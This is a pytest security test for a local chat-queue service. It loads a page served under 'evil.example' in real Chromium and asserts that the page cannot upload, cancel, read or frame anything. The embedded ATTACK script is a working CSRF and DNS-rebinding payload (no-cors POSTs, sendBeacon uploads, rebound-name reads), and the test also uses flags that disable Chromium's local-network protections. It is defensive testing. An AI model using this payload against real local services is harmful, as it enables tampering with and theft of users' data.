"""A page of another site, in a real browser on the same machine: it can change nothing, read nothing, frame nothing."""

import json
import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.support.browser import browsing, needs_chromium, page_source
from tests.support.http import call
from tests.support.stack import serving

pytestmark = [pytest.mark.processes, needs_chromium]

RESOLVE = "--host-resolver-rules=MAP evil.example 127.0.0.1,MAP page.example 127.0.0.1"
# Chromium asks the user before a public page may reach this machine; without that, our own guard must hold.
NO_PROMPT = "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests"

ATTACK = """<!doctype html><meta charset="utf-8"><title>attack</title><script>
const api = "API", rebound = "REBOUND", job = "JOB";
const form = () => { const data = new FormData(); data.append("file", new Blob(["EVIL form"]), "a.txt"); return data; };
const send = (path, options) => fetch(api + path, {method: "POST", mode: "no-cors", ...options});
const read = (url, options) => fetch(url, options).then((r) => r.text()).catch(() => "blocked");
const framed = new Promise((resolve) => {
  const frame = document.createElement("iframe");
  frame.onload = () => {
    let url;
    try { url = frame.contentWindow.location.href; } catch { url = "foreign"; }
    resolve([url, frame.contentWindow.length]);
  };
  frame.src = api + "/docs";
  addEventListener("DOMContentLoaded", () => document.body.append(frame));
});
(async () => {
  await Promise.allSettled([
    send("/api/v1/documents", {body: form()}),
    send("/api/v1/documents?filename=b.txt", {body: "EVIL text"}),
    send("/api/v1/tasks/" + job + "/cancel"),
    send("/v1/responses/" + job + "/cancel"),
  ]);
  navigator.sendBeacon(api + "/api/v1/documents?filename=c.txt", "EVIL beacon");
  const json = {method: "POST", headers: {"Content-Type": "application/json"}, body: '{"message": "EVIL json"}'};
  const answers = [
    await read(api + "/api/v1/tasks"), await read(api + "/api/v1/chat/async", json),
    await read(rebound + "/api/v1/tasks"), await read(api + "/health/live"),
  ];
  await new Promise((resolve) => setTimeout(resolve, 300));  // the beacon has no completion event
  await fetch("/reported", {method: "POST", body: JSON.stringify({answers, framed: await framed})});
})();
</script><body></body>"""

OWN_PAGE = """<!doctype html><title>page</title><script>
(async () => {
  const options = {method: "POST", headers: {"Content-Type": "application/json", "Idempotency-Key": "k"},
                   body: '{"message": "hello"}'};
  const reply = await fetch("API/api/v1/chat/async", options);
  const report = {status: reply.status, job: (await reply.json()).job_id, location: reply.headers.get("Location")};
  await fetch("/reported", {method: "POST", body: JSON.stringify(report)});
})();
</script>"""


class Site(ThreadingHTTPServer):
    """Serves one page under any name, and receives its report."""

    daemon_threads = True
    page = b""
    report = None

    def __init__(self):
        super().__init__(("127.0.0.1", 0), SiteHandler)
        self.has_reported = threading.Event()


class SiteHandler(BaseHTTPRequestHandler):
    server: Site

    def do_GET(self):
        self._answer(self.server.page if self.path == "/" else b"")

    def do_POST(self):
        self.server.report = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self._answer(b"")
        self.server.has_reported.set()

    def log_message(self, *_):
        pass

    def _answer(self, body):
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@contextmanager
def site():
    with Site() as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.05,))
        thread.start()
        yield server
        server.shutdown()
        thread.join()


def visit(server, host, folder):
    """Opens the site's page under this name, and returns what the page reports."""
    with browsing(f"http://{host}:{server.server_port}/", folder, RESOLVE, NO_PROMPT) as browser:
        assert server.has_reported.wait(30), browser.output
    return server.report


def test_a_foreign_page_changes_reads_and_frames_nothing(redis_url, model_url, tmp_path, processes):
    """Uploads by form, text and beacon and cancels need no preflight; the rebound name reads without CORS."""
    data = {"CHATQUEUE_DATA_DIR": str(tmp_path / "data")}
    with serving(redis_url, model_url, **data) as stack, site() as server:
        job_id = call(f"{stack.url}/api/v1/chat/async", {"message": "canary prompt"}).json["job_id"]
        rebound = stack.url.replace("127.0.0.1", "evil.example")
        page = ATTACK.replace("API", stack.url).replace("REBOUND", rebound).replace("JOB", job_id)
        server.page = page.encode()
        report = visit(server, "evil.example", tmp_path / "browser")

        assert call(f"{stack.url}/api/v1/documents").json["documents"] == []
        assert [task["task_id"] for task in call(f"{stack.url}/api/v1/tasks").json["tasks"]] == [job_id]
        assert call(f"{stack.url}/api/v1/tasks/{job_id}").json["status"] == "queued"
    assert report["answers"] == ["blocked"] * 4
    assert report["framed"][1] == 0  # no frame inside: an error page of the browser


def test_a_page_under_a_rebound_name_is_of_the_same_origin_and_still_reads_nothing(
    redis_url, model_url, tmp_path, processes
):
    """For the browser the service is the page's own site then, so the name alone gives it away."""
    with serving(redis_url, model_url) as stack:
        call(f"{stack.url}/api/v1/chat/async", {"message": "canary prompt"})
        url = stack.url.replace("127.0.0.1", "evil.example") + "/api/v1/tasks"
        source = page_source(url, tmp_path, RESOLVE)

    assert "host_not_allowed" in source
    assert "canary" not in source


def test_a_page_of_a_configured_origin_submits_and_reads(redis_url, model_url, tmp_path, processes):
    """The browser's own preflight accepts the answer, and the page can read Location."""
    with site() as server:
        origin = f"http://page.example:{server.server_port}"
        with serving(redis_url, model_url, CHATQUEUE_CORS_ORIGINS=origin) as stack:
            server.page = OWN_PAGE.replace("API", stack.url).encode()
            report = visit(server, "page.example", tmp_path)

    assert report["status"] == 202
    assert report["job"] in report["location"]
